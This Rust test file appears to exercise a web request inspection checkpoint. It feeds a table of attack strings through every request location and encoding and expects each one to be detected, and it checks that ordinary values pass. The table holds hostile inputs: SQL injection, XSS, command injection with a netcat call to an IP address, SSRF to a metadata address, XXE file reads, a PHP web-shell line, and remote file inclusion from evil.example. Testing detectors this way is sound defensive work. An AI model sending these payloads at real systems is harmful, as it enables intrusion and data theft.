//! Every class of attack in every place of a request, in every dress an application takes off;
//! and innocent requests with a value in the same places.
#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test that fails should stop there"
)]

use std::fmt::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use flow::question::guard::Forward;
use flow::signal::Registry;
use gate::inspect::{Checkpoint, Config, Seen};
use proptest::prelude::*;

/// Attacks by class, written for this test.
const CLASSES: [(&str, &[&str]); 16] = [
    (
        "sqli",
        &["3' or 'u'='u", "9 UNION ALL SELECT name, pass FROM staff", "lee'; DROP TABLE bills; --"],
    ),
    ("xss", &["<script>steal()</script>", "<svg onload=go()>", "\" autofocus onfocus=go() x=\""]),
    ("command", &["a.png; cat /etc/hosts", "$(whoami)", "x | nc 10.9.8.7 4444"]),
    ("path", &["../../../secret/keys", "..\\..\\windows\\win.ini", "....//....//secret"]),
    ("ssti", &["{{8*8}}", "${8*8}", "<%= 8*8 %>"]),
    (
        "ssrf",
        &["http://127.0.0.1/admin", "http://169.254.169.254/latest/", "gopher://m.example:25/_x"],
    ),
    ("nosqli", &["{\"$ne\": null}", "{\"age\": {\"$gt\": 1}}"]),
    ("ldap", &["*)(uid=*", "x)(|(cn=*))"]),
    (
        "xxe",
        &[
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]><a>&b;</a>",
            "<xi:include href=\"file:///etc/hosts\"/>",
        ],
    ),
    ("ssi", &["<!--#exec cmd=\"id\" -->", "<!--#include file=\"secret\" -->"]),
    ("xpath", &["x' or name()='staff' or 'a'='b", "' or count(/*)=1 or 'a'='b"]),
    ("php", &["<?php system($_GET[1]); ?>", "php://filter/convert.base64-encode/resource=a"]),
    (
        "object",
        &["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "x java.lang.Runtime.getRuntime().exec(1)"],
    ),
    ("mail", &["joe\r\nBcc: all@evil.example"]),
    ("crlf", &["en\r\nSet-Cookie: a=b", "x\r\nLocation: http://evil.example/"]),
    ("rfi", &["http://evil.example/shell.txt?"]),
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Path,
    Query,
    QueryName,
    Header,
    Cookie,
    Json,
    JsonKey,
    Form,
    Multipart,
    FileName,
    Xml,
    XmlAttribute,
    Graphql,
    GraphqlVariable,
    Message,
}

const PLACES: [Place; 15] = [
    Place::Path,
    Place::Query,
    Place::QueryName,
    Place::Header,
    Place::Cookie,
    Place::Json,
    Place::JsonKey,
    Place::Form,
    Place::Multipart,
    Place::FileName,
    Place::Xml,
    Place::XmlAttribute,
    Place::Graphql,
    Place::GraphqlVariable,
    Place::Message,
];

/// What an application takes off once it has the value, beside what the place itself needs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Dress {
    Plain,
    Url,
    DoubleUrl,
    Html,
    Unicode,
    Base64,
}

const DRESSES: [Dress; 6] =
    [Dress::Plain, Dress::Url, Dress::DoubleUrl, Dress::Html, Dress::Unicode, Dress::Base64];

fn url(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => out.push(byte.into()),
            byte => write!(out, "%{byte:02x}").unwrap(),
        }
    }
    out
}

fn html(text: &str) -> String {
    let escape = |held: char| match held.is_ascii_alphanumeric() {
        true => held.to_string(),
        false => format!("&#x{:x};", u32::from(held)),
    };
    text.chars().map(escape).collect()
}

fn unicode(text: &str) -> String {
    let escape = |held: char| match held.is_ascii_alphanumeric() {
        true => held.to_string(),
        false => format!("\\u{:04x}", u32::from(held)),
    };
    text.chars().map(escape).collect()
}

fn dressed(text: &str, dress: Dress, place: Place) -> String {
    match dress {
        Dress::Plain => text.to_owned(),
        Dress::Url => url(text),
        Dress::DoubleUrl => url(&url(text)),
        Dress::Html => html(text),
        Dress::Unicode => unicode(text),
        Dress::Base64 if place == Place::Path => URL_SAFE_NO_PAD.encode(text),
        Dress::Base64 => STANDARD.encode(text),
    }
}

struct Sent {
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

/// A field of a message of protocol buffers.
fn field(number: u8, held: &[u8]) -> Vec<u8> {
    let length = u16::try_from(held.len()).unwrap();
    let [low, high] = [length & 0x7f | 0x80, length >> 7].map(|part| u8::try_from(part).unwrap());
    [&[number << 3 | 2, low, high], held].concat()
}

fn sent(value: &str, place: Place) -> Sent {
    let mut sent = Sent {
        method: "GET",
        target: "/shop/list?page=2".into(),
        headers: Vec::new(),
        body: Vec::new(),
    };
    let mut send = |kind: &str, body: Vec<u8>| {
        sent.method = "POST";
        sent.headers.push(("content-type", kind.to_owned()));
        sent.body = body;
    };
    let mut post = |kind: &str, body: String| send(kind, body.into_bytes());
    let json = serde_json::to_string(value).unwrap();
    let escaped = value
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;");
    match place {
        Place::Path => sent.target = format!("/shop/{}/view", url(value)),
        Place::Query => sent.target = format!("/shop/list?page=2&q={}", url(value)),
        Place::QueryName => sent.target = format!("/shop/list?{}=2", url(value)),
        Place::Header => sent.headers.push(("x-search", value.to_owned())),
        Place::Cookie => sent.headers.push(("cookie", format!("a=b; last={value}; c=d"))),
        Place::Json => post("application/json", format!("{{\"a\": [1, {{\"note\": {json}}}]}}")),
        Place::JsonKey => post("application/json", format!("{{\"a\": {{{json}: 1}}}}")),
        Place::Form => {
            post("application/x-www-form-urlencoded", format!("a=b&note={}", url(value)));
        }
        Place::Multipart => post(
            "multipart/form-data; boundary=xYz",
            format!(
                "--xYz\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{value}\r\n--xYz--\r\n"
            ),
        ),
        Place::FileName => post(
            "multipart/form-data; boundary=xYz",
            format!(
                "--xYz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{}\"\r\n\r\nhello\r\n--xYz--\r\n",
                value.replace('"', "\\\"")
            ),
        ),
        Place::Xml => post("application/xml", format!("<order><note>{escaped}</note></order>")),
        Place::XmlAttribute => post("text/xml", format!("<order note=\"{escaped}\"/>")),
        Place::Graphql => {
            let query = format!("query {{ find(text: {json}) {{ id }} }}");
            let query = serde_json::to_string(&query).unwrap();
            post("application/json", format!("{{\"query\": {query}}}"));
        }
        Place::GraphqlVariable => post(
            "application/json",
            format!(
                "{{\"query\": \"query($t: String) {{ find(text: $t) {{ id }} }}\", \"variables\": {{\"t\": {json}}}}}"
            ),
        ),
        Place::Message => {
            let note = [b"\x08\x02", &*field(3, value.as_bytes())].concat();
            let order = [&*field(1, b"Ann"), &field(2, &note)].concat();
            let length = u32::try_from(order.len()).unwrap().to_be_bytes();
            send("application/grpc", [&[0][..], &length, &order].concat());
        }
    }
    sent
}

fn pass(checkpoint: &Checkpoint, sent: &Sent) -> flow::Result<Seen> {
    let headers: Vec<_> =
        sent.headers.iter().map(|(name, value)| (*name, value.as_bytes())).collect();
    checkpoint.pass(&Forward {
        method: sent.method,
        host: "shop.example",
        target: &sent.target,
        headers: &headers,
        body: &sent.body,
        whole: true,
    })
}

fn checkpoint(config: &str) -> Checkpoint {
    let config: Config = serde_json::from_str(config).unwrap();
    Checkpoint::new(&config, &Registry::default()).unwrap()
}

/// Why there is nothing to find: the attack cannot be there, or is none there.
fn senseless(kind: &str, attack: &str, dress: Dress, place: Place) -> Option<&'static str> {
    let name = matches!(place, Place::QueryName | Place::JsonKey);
    let raw = dress == Dress::Plain;
    match (place, dress) {
        (Place::Header | Place::Cookie, _) if raw && attack.contains(['\r', '\n']) => {
            Some("headers have no lines; a server ends them there")
        }
        (Place::FileName, _) if raw && attack.contains(['\r', '\n']) => {
            Some("headers of parts have no lines")
        }
        (Place::Cookie, _) if raw && attack.contains(';') => Some("a semicolon ends a cookie"),
        (Place::Cookie, Dress::Html) => Some("and so it does entities"),
        (_, Dress::Base64) if name => Some("nobody decodes names"),
        (_, Dress::Base64) if attack.len() < 9 => Some("too short to be told from a word"),
        (Place::FileName, Dress::Html | Dress::Base64) => Some("nobody decodes names of files so"),
        _ if kind == "nosqli" && name => {
            Some("a document is no name; operators as names are below")
        }
        _ => None,
    }
}

#[test]
fn every_class_is_found_in_every_place_and_dress() {
    let checkpoint = checkpoint(r#"{"mode":"flag"}"#);
    let (mut wrong, mut cells, mut left_out) = (Vec::new(), 0, 0);
    for (kind, attacks) in CLASSES {
        for (attack, place, dress) in attacks.iter().flat_map(|attack| {
            let all = PLACES.iter().flat_map(|place| DRESSES.map(|dress| (*place, dress)));
            all.map(move |(place, dress)| (*attack, place, dress))
        }) {
            if senseless(kind, attack, dress, place).is_some() {
                left_out += 1;
                continue;
            }
            cells += 1;
            let sent = sent(&dressed(attack, dress, place), place);
            let seen = pass(&checkpoint, &sent).unwrap();
            // A second line alone is only suspicious: people write in lines.
            let least = if kind == "mail" { 0.5 } else { 0.7 };
            if !seen.kinds.contains(&kind) || seen.score < least {
                wrong.push(format!(
                    "{kind:8} {place:?} {dress:?} {attack}: {} {:?}",
                    seen.score, seen.kinds
                ));
            }
        }
    }
    println!("{cells} cells, {left_out} left out");
    assert!(wrong.is_empty(), "{} of {cells}:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn operators_as_names_are_found() {
    let checkpoint = checkpoint("{}");
    for (target, kind, body) in [
        ("/?user[$ne]=1", "", ""),
        ("/", "application/x-www-form-urlencoded", "user%5B%24gt%5D=&a=b"),
        ("/", "application/json", r#"{"user": {"$ne": null}}"#),
        ("/", "application/json", r#"[{"a": 1}, {"b": {"c": {"$regex": ".*"}}}]"#),
        ("/", "", r#"{"user": {"\u0024ne": 1}}"#),
        ("/", "text/plain", r#"{"user": {"$ne": null}}"#),
    ] {
        let headers = [("content-type", kind.as_bytes())];
        let headers = if kind.is_empty() { &[][..] } else { &headers[..] };
        let (body, host) = (body.as_bytes(), "h");
        let forward = Forward { method: "POST", host, target, headers, body, whole: true };
        let error = checkpoint.pass(&forward).unwrap_err();
        assert!(error.record().to_string().contains("nosqli"), "{target} {body:?} {error:?}");
    }
}

/// What people send.
const INNOCENT: [&str; 12] = [
    "R&D budget",
    "O'Brien & Sons; Ltd",
    "rock 'n' roll",
    "C# developer",
    "Please select a colour",
    "a < b and c > d",
    "cats; dogs",
    "report (final) v1.2.pdf",
    "100% off, $5",
    "jo.smith+shop@example.com",
    "https://example.com/a?b=c",
    "Zoë Müller, 東京",
];

#[test]
fn an_innocent_request_passes_in_each_place() {
    let checkpoint = checkpoint(r#"{"mode":"flag"}"#);
    let mut wrong = Vec::new();
    for (value, place) in INNOCENT.iter().flat_map(|value| PLACES.map(|place| (*value, place))) {
        let seen = pass(&checkpoint, &sent(value, place)).unwrap();
        if !seen.record.is_null() {
            wrong.push(format!("{place:?} {value}: {}", seen.record));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

proptest! {
    #[test]
    fn no_request_stops_the_checkpoint(
        target in prop::collection::vec(any::<u8>(), 0..80),
        value in prop::collection::vec(any::<u8>(), 0..80),
        body in prop::collection::vec(any::<u8>(), 0..300),
        pieces in prop::collection::vec(prop::sample::select(PIECES), 0..40),
        kind in prop::sample::select(KINDS),
        packing in prop::sample::select(PACKINGS),
        header in prop::sample::select(HEADERS),
        whole: bool,
    ) {
        let checkpoint = checkpoint(r#"{"mode":"flag","depth_max":8,"fields_max":30,"body_max":"200B"}"#);
        let target = String::from_utf8_lossy(&target);
        let packed = [("content-type", kind.as_bytes()), (header, &*value), ("content-encoding", packing.as_bytes())];
        for (headers, body) in [
            (&packed[..2], &*body),
            (&packed[..], &*body),
            (&packed[..2], pieces.concat().as_bytes()),
        ] {
            let forward = Forward { method: "POST", host: "h", target: &target, headers, body, whole };
            let seen = checkpoint.pass(&forward).unwrap();
            prop_assert!((0.0..=1.0).contains(&seen.score));
        }
    }
}

const PIECES: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    "\"",
    "\\",
    "\\u00",
    "\\ud83d",
    ":",
    ",",
    "<",
    ">",
    "<a",
    "</a>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<!DOCTYPE a [",
    "<?xml ",
    "?>",
    "=",
    "&",
    ";",
    "%",
    "%2",
    "+",
    "--b",
    "\r\n",
    "\r\n\r\n",
    "Content-Disposition: form-data; name=\"",
    "a",
    "query",
    "\"\"\"",
    "#",
    "'",
    "&#",
    "&lt;",
    "$ne",
    "é",
    "\0",
];

const KINDS: &[&str] = &[
    "application/json",
    "application/xml; charset=utf-16",
    "text/plain; charset=utf-7",
    "application/x-www-form-urlencoded; charset=latin1",
    "multipart/form-data; boundary=b",
    "multipart/form-data; boundary=\"",
    "application/graphql",
    "application/octet-stream; charset=ibm037",
    "application/grpc",
    "application/grpc-web-text",
    "application/connect+json",
    "application/x-protobuf",
    "",
    ";;=",
];

const PACKINGS: &[&str] = &["gzip", "deflate", "br", "zstd", "zstd, br"];

const HEADERS: &[&str] =
    &["cookie", "referer", "user-agent", "x-original-url", "sec-ch-ua", "if-none-match", "x-a"];
